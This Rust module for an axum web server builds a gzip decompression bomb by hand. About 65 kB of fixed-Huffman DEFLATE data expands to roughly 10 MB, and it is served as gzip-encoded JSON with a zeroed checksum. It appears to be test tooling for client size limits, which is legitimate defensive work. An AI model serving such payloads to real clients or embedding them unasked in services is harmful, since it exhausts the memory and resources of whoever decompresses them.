//! Compressed answers that grow.

use axum::body::Body;
use axum::response::{IntoResponse as _, Response};
use http::header::{CONTENT_ENCODING, CONTENT_TYPE};

/// 65 kB that become 10 MB: one block of fixed Huffman codes, a space and then 40,000 times 258 more of them.
pub(super) fn bomb() -> Response {
    let mut bits = Bits::default();
    // Last block, fixed codes.
    bits.push(1, 1);
    bits.push(1, 2);
    bits.push_code(0x30 + 0x20, 8);
    for _ in 0..40_000 {
        // Length 258 is symbol 285, distance 1 is code 0.
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    gzip.extend(bits.bytes);
    // Nobody who reads this far looks at the checksum.
    gzip.extend([0; 8]);
    let headers = [(CONTENT_TYPE, "application/json"), (CONTENT_ENCODING, "gzip")];
    (headers, Body::from(gzip)).into_response()
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    filled: u32,
}

impl Bits {
    /// Numbers, lowest bit first.
    fn push(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.filled.is_multiple_of(8) {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= (((value >> bit) & 1) as u8) << (self.filled % 8);
            }
            self.filled += 1;
        }
    }

    /// Huffman codes, highest bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        for bit in (0..count).rev() {
            self.push((code >> bit) & 1, 1);
        }
    }
}
